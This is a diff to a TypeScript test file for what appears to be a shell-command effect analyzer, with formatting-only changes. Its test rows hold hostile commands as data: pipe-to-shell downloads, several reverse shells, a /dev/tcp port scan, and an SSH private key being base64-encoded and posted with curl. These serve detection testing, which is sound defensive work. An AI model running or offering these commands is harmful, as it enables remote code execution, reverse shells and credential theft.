@@ -16,7 +16,7 @@ const rows: readonly (readonly [written: string, ...effects: string[]])[] = [
   ["curl u | tee f | sh", ":fetch u | :run sh", ":fetch u | :write f"],
   [". <(curl u)", ":fetch u | :run sh"],
   ["wget -qO- u | python3 -", ":fetch u | :run python"],
-  ["X=$(curl u); eval \"$X\"", ":fetch u | :run sh"],
+  ['X=$(curl u); eval "$X"', ":fetch u | :run sh"],
   ["cat <(curl u) | sh", ":fetch u | :run sh"],
   ["echo x >> f", ":write f"],
   ["a | tee -a f", ":write f"],
@@ -24,7 +24,7 @@ const rows: readonly (readonly [written: string, ...effects: string[]])[] = [
   ["sed -i s/a/b/ f", ":write f"],
   ["install x f", ":read x | :write f"],
   ["exec 3<>/dev/tcp/h/1", ":connect h '1'"],
-  ["for i in $(seq 9); do : >/dev/tcp/10.4.7.$i/22; done", ':connect "10.4.7.$UNKNOWN" \'22\''],
+  ["for i in $(seq 9); do : >/dev/tcp/10.4.7.$i/22; done", ":connect \"10.4.7.$UNKNOWN\" '22'"],
   ["bash -i >& /dev/tcp/h/1 0>&1", ":connect h '1'", ":fetch h | :run sh"],
   ["exec 5<>/dev/tcp/h/1; while read l <&5; do $l >&5; done", ":connect h '1'", ":fetch h | :run sh"],
   ["mkfifo p; cat p | sh | nc h 1 > p", ":connect h '1'", ":fetch h | :run sh"],
@@ -62,7 +62,9 @@ describe("effects", () => {
 
   it("tells the steps of the way", () => {
     const text = "K=~/.ssh/id_rsa\nD=$(base64 $K)\ncurl -d $D h";
-    const flow = lower(text).lines.find((line) => line.derived && line.stages[1]?.name.value === ":send" && line.stages[0]?.name.value === ":read");
+    const flow = lower(text).lines.find(
+      (line) => line.derived && line.stages[1]?.name.value === ":send" && line.stages[0]?.name.value === ":read",
+    );
     assert.deepEqual(
       flow?.stages[1]?.related.map((step) => [step.message, text.slice(step.start, step.end)]),
       [
